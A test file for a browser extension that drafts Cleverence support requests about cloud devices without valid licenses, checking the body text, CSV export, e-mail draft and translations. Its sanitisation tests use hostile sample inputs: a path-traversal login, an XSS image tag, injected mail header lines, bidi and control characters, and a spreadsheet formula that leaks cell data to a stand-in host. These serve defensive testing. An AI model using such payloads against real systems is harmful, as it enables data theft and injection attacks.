// A request to Cleverence technical support about cloud devices left without a
// cloud license (utils/support/support-request.ts): what it says about the
// account and each device, the devices a real cross-check hands it, the
// renewal wording, a hundred devices, names that try to be markup, controls,
// direction overrides or new lines, the CSV beside it, the e-mail draft, and
// both languages.
import { afterEach, describe, expect, it, vi } from 'vitest';
import { crossCheck } from '@/utils/checks/checks';
import { dayNumber } from '@/utils/shared/dates';
import type { Device, License } from '@/utils/shared/records';
import {
  BODY_LIMIT, mailtoOf, plain, requestText, supportDevices, supportRequest, type SupportDevice, type SupportRequestInput,
} from '@/utils/support/support-request';

// The browser's i18n, answered from the extension's own messages (tests/locale-messages.ts); Russian unless a test switches.
const i18n = await vi.hoisted(async () => (await import('../locale-messages')).answerFromLocales());

afterEach(() => {
  i18n.language = 'ru';
});

/** A message of the current language with its $1…$9 filled, as the browser fills it. */
const said = (name: string, ...values: Array<string | number>) =>
  i18n.text(name).replace(/\$(\d)/g, (_, n: string) => String(values[Number(n) - 1]));

const TODAY = dayNumber(2026, 6, 15)!;
/** 15.06.2026 09:05 on the user's own clock. */
const CHECKED_AT = new Date(2026, 5, 15, 9, 5).getTime();
const ACCOUNT = { login: 'typical@example.ru', company: 'ООО "Ромашка"', origin: 'https://lk.cleverence.ru' };
const WHO = 'ООО "Ромашка" (typical@example.ru)';
const XIAOMI = '@XIAOMI-M2010J19SY-O-AXI15A64262E0F6593B';
const CLOUD_PRODUCT = 'Mobile SMARTS: облачная лицензия, 3 месяца';

const missing = (id: string, fields: Partial<SupportDevice> = {}): SupportDevice =>
  ({ id, name: `ТСД ${id}`, database: 'Облако Ромашки', lastSeen: TODAY - 1, problem: 'missing', ...fields });
const expired = (id: string, end = TODAY - 3, fields: Partial<SupportDevice> = {}): SupportDevice =>
  ({ ...missing(id), problem: 'expired', expiredLicense: { product: CLOUD_PRODUCT, end }, ...fields });

const input = (devices: SupportDevice[], fields: Partial<SupportRequestInput> = {}): SupportRequestInput =>
  ({ account: ACCOUNT, devices, licenses: 42, deviceCount: 17, checkedAt: CHECKED_AT, version: '1.4.2', ...fields });

/** Reads CSV back as a spreadsheet would: a BOM first, `;` between fields, RFC 4180 quotes, CRLF between rows. */
function readCsv(csv: string): string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const text = csv.slice(1);
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const char = text[i]!;
    if (quoted) {
      if (char === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"' && field === '') quoted = true;
    else if (char === ';') {
      row.push(field);
      field = '';
    } else if (char === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i++;
    } else field += char;
  }
  if (field !== '' || row.length > 0) rows.push([...row, field]);
  return rows;
}

/** The body and subject of a `mailto:` link, decoded. */
function mailParts(link: string): { subject: string; body: string } {
  const match = /^mailto:\?subject=([^&]*)&body=([^&]*)$/.exec(link);
  expect(match, link).not.toBeNull();
  return { subject: decodeURIComponent(match![1]!), body: decodeURIComponent(match![2]!) };
}

describe('a request about one device with no cloud license', () => {
  it('names the problem, the device and the account in its subject', () => {
    const request = supportRequest(input([missing(XIAOMI)]));
    expect(request.subject).toBe(`Нет облачной лицензии у устройства ${XIAOMI} — ${WHO}`);
  });

  it('says in its body who asks, which device, its database and last connection, what it should have, what was checked and when, and the version', () => {
    const request = supportRequest(input([missing(XIAOMI, { name: 'ТСД склад 3', database: 'Облако Ромашки' })]));
    expect(request.body).toBe([
      'Здравствуйте!',
      '',
      'Личный кабинет: ООО "Ромашка" (typical@example.ru), https://lk.cleverence.ru.',
      said('supportWhatMissing', 1),
      '',
      `1. ТСД склад 3 — ${XIAOMI}`,
      '   База: Облако Ромашки; последнее подключение: 14.06.2026',
      '   Должна быть облачная лицензия; в списке «Лицензии» её нет.',
      '',
      'Проверено расширением «Помощник лицензий для Клеверенс» 15.06.2026 в 09:05: сверены списки «Лицензии» (42) и «Устройства» (17). Версия расширения: 1.4.2.',
    ].join('\n'));
    expect(request.body).toContain('сбой сайта');
    expect(request.named).toBe(1);
  });

  it('writes an account with no company name by its login alone', () => {
    const request = supportRequest(input([missing(XIAOMI)], { account: { login: 'typical@example.ru', origin: 'https://lk.cleverence.ru' } }));
    expect(request.subject).toBe(`Нет облачной лицензии у устройства ${XIAOMI} — typical@example.ru`);
    expect(request.body).toContain('Личный кабинет: typical@example.ru, https://lk.cleverence.ru.');
  });

  it('says the last connection is not known where the list shows no date', () => {
    const request = supportRequest(input([missing(XIAOMI, { lastSeen: 'none' }), missing('WIN-2', { lastSeen: 'unknown' })]));
    expect(request.body).toContain('   База: Облако Ромашки; последнее подключение: дата не указана\n');
    expect(request.body.match(/последнее подключение: дата не указана/g)).toHaveLength(2);
  });

  it('pads the time it was checked: 15.06.2026 at 09:05, not 9:5', () => {
    const request = supportRequest(input([missing(XIAOMI)]));
    expect(request.body).toContain(' 15.06.2026 в 09:05: ');
  });

  it('comes as one text to copy or save: the subject line, a blank line, the body', () => {
    const request = supportRequest(input([missing(XIAOMI)]));
    expect(requestText(request)).toBe(`Тема: ${request.subject}\n\n${request.body}\n`);
  });

  it('names the CSV after the login and the day it was checked, with nothing a path could be made of', () => {
    expect(supportRequest(input([missing(XIAOMI)])).csvName).toBe('cleverence-support-typical@example.ru-2026-06-15.csv');
    const hostile = supportRequest(input([missing(XIAOMI)], { account: { ...ACCOUNT, login: '../../etc/passwd\\x y' } }));
    expect(hostile.csvName).toMatch(/^cleverence-support-[\w.@-]+-2026-06-15\.csv$/);
    expect(hostile.csvName).not.toMatch(/[/\\ ]/);
  });
});

describe('the devices a cross-check hands the request', () => {
  const cloudLicense = (deviceId: string, fields: Partial<License> = {}): License =>
    ({ kind: 'cloud', product: CLOUD_PRODUCT, status: 'activated', deviceId, date: TODAY - 100, subscriptionEnd: TODAY + 200, ...fields });
  const device = (id: string, connection: Device['connection'] = 'cloud', fields: Partial<Device> = {}): Device =>
    ({ id, name: `Терминал ${id}`, database: connection === 'cloud' ? 'Облако Ромашки' : 'Склад на ПК', connection, lastSeen: TODAY - 2, ...fields });

  const licenses: License[] = [
    cloudLicense('CLOUD-OK'),
    cloudLicense('CLOUD-SOON', { subscriptionEnd: TODAY + 10 }),
    cloudLicense('CLOUD-LAPSED', { status: 'expired', product: 'Mobile SMARTS: облачная лицензия, 1 месяц', subscriptionEnd: TODAY - 20 }),
    cloudLicense('CLOUD-ENDED', { product: 'Mobile SMARTS: облачная лицензия, 12 месяцев', subscriptionEnd: TODAY - 3 }),
    cloudLicense('CLOUD-TWO', { status: 'expired', product: 'Облачная, 1 месяц', subscriptionEnd: TODAY - 100 }),
    cloudLicense('CLOUD-TWO', { product: 'Облачная, 3 месяца', subscriptionEnd: TODAY - 5 }),
    { kind: 'main', product: 'Mobile SMARTS: Склад 15, ПОЛНЫЙ', status: 'activated', deviceId: 'CLOUD-MAIN', date: TODAY - 100, subscriptionEnd: TODAY + 200 },
    { kind: 'main', product: 'Mobile SMARTS: Склад 15, ПОЛНЫЙ', status: 'free', date: TODAY - 100, subscriptionEnd: TODAY + 200 },
  ];
  const devices: Device[] = [
    device('CLOUD-OK'),
    device('CLOUD-NONE', 'cloud', { lastSeen: TODAY - 7 }),
    device('CLOUD-SOON'),
    device('LOCAL-1', 'local'),
    device('CLOUD-LAPSED'),
    device('CLOUD-MAIN'),
    device('CLOUD-ENDED'),
    device('CLOUD-TWO'),
  ];
  const found = () => supportDevices(crossCheck(licenses, devices, TODAY).devices);

  it('takes a cloud device with no cloud license as missing, a main license not counting for it', () => {
    const byId = new Map(found().map((entry) => [entry.id, entry]));
    expect(byId.get('CLOUD-NONE')).toEqual({ id: 'CLOUD-NONE', name: 'Терминал CLOUD-NONE', database: 'Облако Ромашки', lastSeen: TODAY - 7, problem: 'missing' });
    expect(byId.get('CLOUD-MAIN')).toEqual({ id: 'CLOUD-MAIN', name: 'Терминал CLOUD-MAIN', database: 'Облако Ромашки', lastSeen: TODAY - 2, problem: 'missing' });
    expect(byId.get('CLOUD-NONE')?.expiredLicense).toBeUndefined();
  });

  it('takes a cloud device whose only cloud license is «Истекла» as expired, with that license\'s product and end', () => {
    const lapsed = found().find((entry) => entry.id === 'CLOUD-LAPSED');
    expect(lapsed?.problem).toBe('expired');
    expect(lapsed?.expiredLicense).toEqual({ product: 'Mobile SMARTS: облачная лицензия, 1 месяц', end: TODAY - 20 });
  });

  it('takes a cloud device whose activated cloud license\'s term has ended as expired, with that license\'s product and end', () => {
    const ended = found().find((entry) => entry.id === 'CLOUD-ENDED');
    expect(ended?.problem).toBe('expired');
    expect(ended?.expiredLicense).toEqual({ product: 'Mobile SMARTS: облачная лицензия, 12 месяцев', end: TODAY - 3 });
  });

  it('shows, of two cloud licenses that both ran out, the one that ran out last', () => {
    expect(found().find((entry) => entry.id === 'CLOUD-TWO')?.expiredLicense).toEqual({ product: 'Облачная, 3 месяца', end: TODAY - 5 });
  });

  it('leaves out a healthy cloud device, one whose term only ends soon, and a local device', () => {
    expect(found().map((entry) => entry.id)).toEqual(['CLOUD-NONE', 'CLOUD-LAPSED', 'CLOUD-MAIN', 'CLOUD-ENDED', 'CLOUD-TWO']);
  });

  it('hands nothing when every cloud device has a cloud license that runs', () => {
    const healthy = crossCheck([cloudLicense('A'), cloudLicense('B')], [device('A'), device('B'), device('L', 'local')], TODAY);
    expect(supportDevices(healthy.devices)).toEqual([]);
  });

  it('writes what the list shows for an expired device into the body', () => {
    const ended = found().filter((entry) => entry.id === 'CLOUD-ENDED');
    const request = supportRequest(input(ended));
    expect(request.body).toContain('1. Терминал CLOUD-ENDED — CLOUD-ENDED\n   База: Облако Ромашки; последнее подключение: 13.06.2026\n'
      + '   Должна быть действующая облачная лицензия; в списке — «Mobile SMARTS: облачная лицензия, 12 месяцев», оплачена до 12.06.2026 (срок кончился).');
  });
});

describe('several devices of one account', () => {
  it('go into one request whose subject counts them, each numbered in the order given', () => {
    const devices = [missing('CLOUD-1'), missing('CLOUD-2'), missing('CLOUD-3')];
    const request = supportRequest(input(devices));
    expect(request.subject).toBe(`Нет облачной лицензии у устройств (3) — ${WHO}`);
    expect(request.named).toBe(3);
    const numbered = request.body.split('\n').filter((line) => /^\d+\. /.test(line));
    expect(numbered).toEqual(['1. ТСД CLOUD-1 — CLOUD-1', '2. ТСД CLOUD-2 — CLOUD-2', '3. ТСД CLOUD-3 — CLOUD-3']);
    expect(request.body).toContain(said('supportWhatMissing', 3));
    expect(request.body).toContain('(устройств: 3)');
  });
});

describe('a renewal or the site\'s failure', () => {
  it('asks to renew when the one device\'s cloud license ran out', () => {
    const request = supportRequest(input([expired(XIAOMI)]));
    expect(request.subject).toBe(`Продление облачной лицензии устройства ${XIAOMI} — ${WHO}`);
    expect(request.body).toContain(said('supportWhatRenew', 1));
    expect(request.body).not.toContain(said('supportWhatMissing', 1));
    expect(request.body).not.toContain('сбой сайта');
  });

  it('asks to renew when every device\'s cloud license ran out, and never calls it the site\'s failure', () => {
    const request = supportRequest(input([expired('CLOUD-1'), expired('CLOUD-2', TODAY - 40)]));
    expect(request.subject).toBe(`Продление облачных лицензий устройств (2) — ${WHO}`);
    expect(request.body).toContain('Облачные лицензии этих устройств истекли (устройств: 2): прошу продлить их или выставить счёт на продление.');
    expect(request.body).not.toContain(said('supportWhatMissing', 2));
    expect(request.body).not.toContain('сбой сайта');
    expect(request.body).not.toContain('Нет облачной лицензии');
    expect(request.body).toContain('оплачена до 12.06.2026 (срок кончился)');
    expect(request.body).toContain('оплачена до 06.05.2026 (срок кончился)');
  });

  it('says the license ran out even when the list did not tell which one', () => {
    const request = supportRequest(input([expired('CLOUD-1', TODAY, { expiredLicense: undefined })]));
    expect(request.body).toContain('   Должна быть действующая облачная лицензия; в списке она истекла.');
  });

  it('uses the site-failure wording as soon as one device has no cloud license at all, saying what each device lacks', () => {
    const request = supportRequest(input([expired('CLOUD-1'), missing('CLOUD-2'), expired('CLOUD-3')]));
    expect(request.subject).toBe(`Нет облачной лицензии у устройств (3) — ${WHO}`);
    expect(request.body).toContain(said('supportWhatMissing', 3));
    expect(request.body).not.toContain(said('supportWhatRenew', 3));
    const lines = request.body.split('\n');
    const after = (id: string) => lines[lines.indexOf(lines.find((line) => line.endsWith(`— ${id}`))!) + 2];
    expect(after('CLOUD-1')).toContain('оплачена до 12.06.2026');
    expect(after('CLOUD-2')).toBe('   Должна быть облачная лицензия; в списке «Лицензии» её нет.');
    expect(after('CLOUD-3')).toContain('оплачена до 12.06.2026');
  });
});

describe('a hundred devices', () => {
  const hundred = Array.from({ length: 100 }, (_, n) =>
    missing(`CLOUD-${String(n + 1).padStart(3, '0')}-7F3A9C2E11B04D5F`, { name: `Терминал сбора данных №${n + 1}`, database: 'Облачная база «Склад Ромашки»' }));
  const request = supportRequest(input(hundred, { deviceCount: 140, licenses: 260 }));
  const lines = request.body.split('\n');

  it('keep the body within what a form takes', () => {
    expect(request.body.length).toBeLessThanOrEqual(BODY_LIMIT);
    expect(request.named).toBeGreaterThan(0);
    expect(request.named).toBeLessThan(100);
  });

  it('are named from the first, in order, as many as fit', () => {
    const numbered = lines.filter((line) => /^\d+\. /.test(line));
    expect(numbered).toHaveLength(request.named);
    numbered.forEach((line, n) => expect(line).toBe(`${n + 1}. ${hundred[n]!.name} — ${hundred[n]!.id}`));
    expect(request.body).not.toContain(hundred[request.named]!.id);
    expect(request.subject).toBe(`Нет облачной лицензии у устройств (100) — ${WHO}`);
    expect(request.body).toContain('(устройств: 100)');
  });

  it('end the list with a note of how many were left out, before what was checked', () => {
    const note = said('supportMore', 100 - request.named);
    expect(note).toContain(`ещё устройств: ${100 - request.named} `);
    const at = lines.indexOf(note);
    expect(at).toBeGreaterThan(0);
    const lastNamed = lines.findIndex((line) => line.startsWith(`${request.named}. `));
    expect(at).toBeGreaterThan(lastNamed);
    expect(lines.slice(at + 1)).toEqual(['', said('supportChecked', '15.06.2026', '09:05', 260, 140, '1.4.2')]);
  });

  it('are all in the CSV: a BOM, a header, and one row of `;`-separated fields each', () => {
    expect(request.csv.startsWith('\uFEFF')).toBe(true);
    const dataLines = request.csv.slice(1).split('\r\n').filter((line) => line !== '').slice(1);
    expect(dataLines).toHaveLength(100);
    const rows = readCsv(request.csv);
    expect(rows[0]!.join(';')).toBe('Устройство;Название;База;Последнее подключение;Что не так;Облачная лицензия в списке;До');
    expect(rows.slice(1).map((row) => row[0])).toEqual(hundred.map((device) => device.id));
    expect(rows[1]).toEqual([hundred[0]!.id, 'Терминал сбора данных №1', 'Облачная база «Склад Ромашки»', '14.06.2026', 'нет облачной лицензии', '', '']);
    expect(rows.every((row) => row.length === 7)).toBe(true);
  });

  it('are cut where a device\'s lines end, never in the middle of one', () => {
    const numberedAt = lines.findIndex((line) => line.startsWith(`${request.named}. `));
    expect(lines[numberedAt + 1]).toMatch(/^ {3}База: /);
    expect(lines[numberedAt + 2]).toBe('   Должна быть облачная лицензия; в списке «Лицензии» её нет.');
    expect(lines[numberedAt + 3]).toBe('');
  });
});

describe('the CSV of an expired device', () => {
  it('says what is wrong and which license the list shows, until when', () => {
    const rows = readCsv(supportRequest(input([expired(XIAOMI, TODAY - 3, { name: 'ТСД' })])).csv);
    expect(rows[1]).toEqual([`'${XIAOMI}`, 'ТСД', 'Облако Ромашки', '14.06.2026', 'облачная лицензия истекла', CLOUD_PRODUCT, '12.06.2026']);
  });
});

describe('names read from the page stay text', () => {
  const CONTROLS = ['\u0000', '\u0007', '\u001B', '\u007F', '\u0085'];
  const BIDI = ['\u202E', '\u2066', '\u2067', '\u2068', '\u2069', '\u200E', '\u200F', '\u061C'];
  // eslint-disable-next-line no-control-regex
  const UNSAFE = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/;
  const sprinkle = (text: string, extra: string[]) => [...text].map((char, n) => char + (extra[n % extra.length] ?? '')).join('');

  it('keeps a device named like markup as the literal text', () => {
    const name = '<img src=x onerror=alert(1)>';
    const request = supportRequest(input([missing(XIAOMI, { name })]));
    expect(request.body).toContain(`1. ${name} — ${XIAOMI}`);
    expect(request.body).not.toContain('&lt;');
    expect(readCsv(request.csv)[1]![1]).toBe(name);
  });

  it('takes control and direction characters out of names, ids, databases and the company, in the subject, body and CSV', () => {
    const all = [...CONTROLS, ...BIDI];
    const request = supportRequest(input([missing(sprinkle('WIN-H-4A5F', all), {
      name: sprinkle('Касса 1', BIDI) + CONTROLS.join(''),
      database: CONTROLS.join('') + sprinkle('Облако', all),
    })], { account: { ...ACCOUNT, company: `${BIDI.join('')}ООО "Ромашка"${CONTROLS.join('')}` } }));

    for (const char of all) {
      expect(request.subject.includes(char), `subject holds U+${char.codePointAt(0)!.toString(16)}`).toBe(false);
      expect(request.body.includes(char), `body holds U+${char.codePointAt(0)!.toString(16)}`).toBe(false);
      expect(request.csv.includes(char), `CSV holds U+${char.codePointAt(0)!.toString(16)}`).toBe(false);
    }
    expect(request.subject).not.toMatch(UNSAFE);
    expect(request.body).not.toMatch(UNSAFE);
    expect(request.csv.replaceAll('\r\n', '')).not.toMatch(UNSAFE);

    expect(request.subject).toBe(`Нет облачной лицензии у устройства WIN-H-4A5F — ${WHO}`);
    expect(request.body).toContain('1. Касса 1 — WIN-H-4A5F\n   База: Облако; последнее подключение: 14.06.2026');
    expect(request.body).toContain(`Личный кабинет: ${WHO}, https://lk.cleverence.ru.`);
    expect(readCsv(request.csv)[1]!.slice(0, 3)).toEqual(['WIN-H-4A5F', 'Касса 1', 'Облако']);
  });

  it('keeps a name with new lines on its own line, so it cannot start a line of its own', () => {
    const request = supportRequest(input([
      missing('ID-1\nBcc: all@example.com', { name: 'Касса\nТема: взлом\r\nКому: всем\u2028Скрытая строка\u2029Ещё', database: 'Облако\n\nПодпись: директор' }),
    ]));
    const lines = request.body.split('\n');
    expect(lines.filter((line) => /^(?:Тема|Кому|Скрытая|Ещё|Bcc|Подпись)/.test(line))).toEqual([]);
    expect(lines.find((line) => line.includes('взлом'))).toBe('1. Касса Тема: взлом Кому: всем Скрытая строка Ещё — ID-1 Bcc: all@example.com');
    expect(request.body).toContain('   База: Облако Подпись: директор; последнее подключение: 14.06.2026');
    expect(request.body).not.toMatch(/[\r\u2028\u2029]/);
    expect(request.subject).not.toMatch(/[\n\r\u2028\u2029]/);
    expect(request.subject).toContain('ID-1 Bcc: all@example.com');
    // The CSV: one row still, every field on it.
    const rows = readCsv(request.csv);
    expect(rows).toHaveLength(2);
    expect(rows[1]![1]).toBe('Касса Тема: взлом Кому: всем Скрытая строка Ещё');
  });

  it('cuts a 5,000-character name to 200 characters ending in «…», in the body and the CSV', () => {
    const name = 'Я'.repeat(5000);
    const request = supportRequest(input([missing(XIAOMI, { name })]));
    const line = request.body.split('\n').find((each) => each.startsWith('1. '))!;
    const shown = line.slice(3, line.indexOf(` — ${XIAOMI}`));
    expect(shown.length).toBeLessThanOrEqual(200);
    expect(shown.endsWith('…')).toBe(true);
    expect(shown).toBe(`${'Я'.repeat(199)}…`);
    const inCsv = readCsv(request.csv)[1]![1]!;
    expect(inCsv.length).toBeLessThanOrEqual(200);
    expect(inCsv.endsWith('…')).toBe(true);
  });

  it('cuts a 5,000-character id, database and company as well, so the subject stays a line', () => {
    const request = supportRequest(input([missing('W'.repeat(5000), { database: 'Б'.repeat(5000) })], { account: { ...ACCOUNT, company: 'К'.repeat(5000) } }));
    expect(request.subject).not.toContain('W'.repeat(200));
    expect(request.subject).toContain(`${'W'.repeat(199)}…`);
    expect(request.subject).toContain(`${'К'.repeat(199)}… (typical@example.ru)`);
    expect(request.body).not.toContain('Б'.repeat(200));
    expect(request.body.length).toBeLessThan(BODY_LIMIT);
  });

  it('plain() makes any page text one clean line of a sane length', () => {
    expect(plain('  Касса\u202E 1\n\tсклад\u0000  ')).toBe('Касса 1 склад');
    expect(plain('abcdef', 4)).toBe('abc…');
    expect(plain('abcd', 4)).toBe('abcd');
  });
});

describe('the CSV does not run formulas', () => {
  it('neutralises a device named like a spreadsheet formula, and fields starting with + - @', () => {
    const name = '=HYPERLINK("https://evil.example/?leak="&A1;"Открыть")';
    const request = supportRequest(input([missing('-1+1', { name, database: '+7 495 000-00-00' }), missing('@SUM(A1:A9)', { name: '@cmd' })]));
    const rows = readCsv(request.csv);
    expect(rows[1]!.slice(0, 3)).toEqual(["'-1+1", `'${name}`, "'+7 495 000-00-00"]);
    expect(rows[2]!.slice(0, 2)).toEqual(["'@SUM(A1:A9)", "'@cmd"]);
    for (const row of rows.slice(1)) for (const field of row) expect(field).not.toMatch(/^[=+\-@]/);
    // The body, for people, keeps the name as it is.
    expect(request.body).toContain(`1. ${name} — -1+1`);
  });

  it('neutralises a formula hidden behind a direction character or spaces', () => {
    const request = supportRequest(input([missing('ID-1', { name: '\u202E  =1+1' })]));
    expect(readCsv(request.csv)[1]![1]).toBe("'=1+1");
  });
});

describe('the e-mail draft', () => {
  it('carries a short request whole, with the subject decoding back', () => {
    const link = mailtoOf({ subject: 'Нет облачной лицензии у устройства WIN-1 — ООО "Ромашка" & Ко', body: 'Здравствуйте!\n\nКоротко: 1 устройство.', short: 'WIN-1' });
    expect(link.startsWith('mailto:?subject=')).toBe(true);
    expect(mailParts(link)).toEqual({ subject: 'Нет облачной лицензии у устройства WIN-1 — ООО "Ромашка" & Ко', body: 'Здравствуйте!\n\nКоротко: 1 устройство.' });
    expect(link.length).toBeLessThanOrEqual(1900);
  });

  it('carries an English one-device request whole', () => {
    i18n.language = 'en';
    const request = supportRequest(input([missing('WIN-1', { name: 'Scanner 1', database: 'Cloud' })], { account: { ...ACCOUNT, company: 'Romashka LLC' } }));
    const link = mailtoOf(request);
    expect(link.length).toBeLessThanOrEqual(1900);
    expect(mailParts(link)).toEqual({ subject: request.subject, body: request.body });
    expect(link).not.toContain(encodeURIComponent(said('supportMailCut')));
  });

  it('gives a long request in its short form (the account, then each device by id), cut at a line to fit 1,900 characters, and says so', () => {
    const request = supportRequest(input(Array.from({ length: 300 }, (_, n) => missing(`CLOUD-${n + 1}`))));
    const link = mailtoOf(request);
    expect(link.startsWith('mailto:?subject=')).toBe(true);
    expect(link.length).toBeLessThanOrEqual(1900);
    const { subject, body } = mailParts(link);
    expect(subject).toBe(request.subject);
    const note = `\n\n${said('supportMailCut')}`;
    expect(body.endsWith(note)).toBe(true);
    const kept = body.slice(0, -note.length);
    expect(kept.startsWith(said('supportAccount', WHO, 'https://lk.cleverence.ru'))).toBe(true);
    // The first devices by id, in order.
    expect(kept).toContain('CLOUD-1 (');
    expect(kept).toContain('CLOUD-2 (');
    // Whole lines of the short form, from its start.
    const all = request.short.split('\n');
    const keptLines = kept.split('\n');
    expect(keptLines).toEqual(all.slice(0, keptLines.length));
    expect(keptLines.length).toBeLessThan(all.length);
    // And no fewer than fit: one more line would not.
    const oneMore = `mailto:?subject=${encodeURIComponent(request.subject)}&body=${encodeURIComponent(all.slice(0, keptLines.length + 1).join('\n') + note)}`;
    expect(oneMore.length).toBeGreaterThan(1900);
  });

  it('names every device of a few by id in the draft, though the whole Russian body would not fit', () => {
    const request = supportRequest(input([missing('WIN-H-401A8592F06EA01C0310CBAA4C9E755E'), missing(XIAOMI)]));
    const body = mailParts(mailtoOf(request)).body;
    expect(body).toContain('WIN-H-401A8592F06EA01C0310CBAA4C9E755E');
    expect(body).toContain(XIAOMI);
  });

  it('fits in 1,900 characters even for an account whose company has a long official name', () => {
    const company = 'Федеральное государственное бюджетное учреждение «Центральный научно-исследовательский институт организации '
      + 'и информатизации здравоохранения» Министерства здравоохранения Российской Федерации';
    const request = supportRequest(input([missing(XIAOMI)], { account: { ...ACCOUNT, company } }));
    expect(mailtoOf(request).length).toBeLessThanOrEqual(1900);
  });
});

describe('in English', () => {
  it('says the same request in English words', () => {
    i18n.language = 'en';
    const request = supportRequest(input([missing(XIAOMI, { name: 'Scanner 3', database: 'Romashka cloud' })]));
    expect(request.subject).toBe(`No cloud license for device ${XIAOMI} — ${WHO}`);
    expect(request.body).toBe([
      'Hello,',
      '',
      'Personal account: ООО "Ромашка" (typical@example.ru), https://lk.cleverence.ru.',
      said('supportWhatMissing', 1),
      '',
      `1. Scanner 3 — ${XIAOMI}`,
      '   Database: Romashka cloud; last connected: 14.06.2026',
      '   It should have a cloud license; the Licenses list shows none.',
      '',
      'Checked by the License Helper for Cleverence extension on 15.06.2026 at 09:05: the Licenses (42) and Devices (17) lists compared. Extension version: 1.4.2.',
    ].join('\n'));
    expect(request.body).not.toMatch(/Здравствуйте|Личный кабинет|База:|Проверено/);
    expect(requestText(request).startsWith(`Subject: ${request.subject}\n\n`)).toBe(true);
    expect(readCsv(request.csv)[0]!.join(';')).toBe('Device;Name;Database;Last connected;What is wrong;Cloud license in the list;Until');
    expect(readCsv(request.csv)[1]![4]).toBe('no cloud license');
  });

  it('asks to renew in English, and counts several devices', () => {
    i18n.language = 'en';
    const request = supportRequest(input([expired('CLOUD-1'), expired('CLOUD-2')]));
    expect(request.subject).toBe(`Renewing the cloud licenses of 2 devices — ${WHO}`);
    expect(request.body).toContain('The cloud licenses of these devices have run out (2 devices): please renew them, or send an invoice for renewing them.');
    expect(request.body).toContain(`It should have a valid cloud license; the list shows «${CLOUD_PRODUCT}», paid until 12.06.2026 (the term is over).`);
    expect(request.body).not.toContain('failure of the site');
    expect(supportRequest(input([missing('A'), missing('B')])).subject).toBe(`No cloud license for 2 devices — ${WHO}`);
  });

  it('says in Russian «Нет облачной лицензии у устройства» and «Личный кабинет:» once the language is Russian again', () => {
    i18n.language = 'en';
    supportRequest(input([missing(XIAOMI)]));
    i18n.language = 'ru';
    const request = supportRequest(input([missing(XIAOMI)]));
    expect(request.subject.startsWith('Нет облачной лицензии у устройства ')).toBe(true);
    expect(request.body).toContain('Личный кабинет: ');
    expect(request.body).not.toContain('Personal account');
  });
});
